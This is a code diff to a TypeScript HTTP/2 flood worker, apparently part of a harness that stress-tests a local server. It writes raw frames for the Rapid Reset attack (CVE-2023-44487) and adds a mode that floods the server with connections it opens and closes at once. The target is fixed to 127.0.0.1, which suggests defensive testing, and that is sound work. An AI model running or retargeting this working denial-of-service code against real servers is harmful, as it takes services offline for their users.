@@ -5,7 +5,8 @@ import { attackerNiceness } from './load.ts';
 
 export interface Http2FloodPlan {
   readonly port: number;
-  readonly path: string;
+  /** Null for connections that are closed when the server has answered the preface. */
+  readonly path: string | null;
   /** Whether each call is reset at once (CVE-2023-44487). If not, the next call follows an answer. */
   readonly resets: boolean;
   readonly addresses: readonly string[];
@@ -47,16 +48,17 @@ const firstBlock = (path: string) =>
 const nextBlock = Buffer.of(0x83, 0x86, 0xc1, 0xc0, 0xbf, 0xbe);
 
 function connectAndFlood(plan: Http2FloodPlan, localAddress: string): void {
+  const { path, resets } = plan;
   const socket = connect({ port: plan.port, host: '127.0.0.1', localAddress });
   count('connections');
   let stream = 1;
   let open = 0;
   const calls = () => {
     const frames: Buffer[] = [];
-    for (let i = 0; i < batch && (plan.resets || open < maxOpen); i += 1) {
-      const block = stream === 1 ? firstBlock(plan.path) : nextBlock;
-      frames.push(frame(headersType, endHeaders | (plan.resets ? 0 : endStream), stream, block));
-      if (plan.resets) frames.push(frame(resetType, 0, stream, Buffer.of(0, 0, 0, 8)));
+    for (let i = 0; i < batch && (resets || open < maxOpen); i += 1) {
+      const block = stream === 1 ? firstBlock(path ?? '') : nextBlock;
+      frames.push(frame(headersType, endHeaders | (resets ? 0 : endStream), stream, block));
+      if (resets) frames.push(frame(resetType, 0, stream, Buffer.of(0, 0, 0, 8)));
       stream += 2;
       open += 1;
       count('calls');
@@ -65,7 +67,7 @@ function connectAndFlood(plan: Http2FloodPlan, localAddress: string): void {
   };
   const send = () => {
     const bytes = calls();
-    if (bytes.length > 0) socket.write(bytes, plan.resets ? () => setImmediate(send) : undefined);
+    if (bytes.length > 0) socket.write(bytes, resets ? () => setImmediate(send) : undefined);
   };
   let received = Buffer.alloc(0);
   socket.on('data', (chunk) => {
@@ -78,14 +80,15 @@ function connectAndFlood(plan: Http2FloodPlan, localAddress: string): void {
       }
       received = received.subarray(9 + received.readUIntBE(0, 3));
     }
-    if (!plan.resets) send();
+    if (!resets && path !== null) send();
   });
   socket.on('error', () => undefined);
-  socket.on('close', () => setTimeout(() => connectAndFlood(plan, localAddress), reconnectMs));
+  socket.on('close', () => setTimeout(() => connectAndFlood(plan, localAddress), path === null ? 0 : reconnectMs));
   socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
   socket.write(frame(settingsType, 0, 0, Buffer.alloc(0)));
   socket.write(frame(windowUpdateType, 0, 0, Buffer.of(0x3f, 0xff, 0, 0)));
-  send();
+  if (path === null) socket.once('data', () => socket.destroy());
+  else send();
 }
 
 process.once('message', (plan: Http2FloodPlan) => {
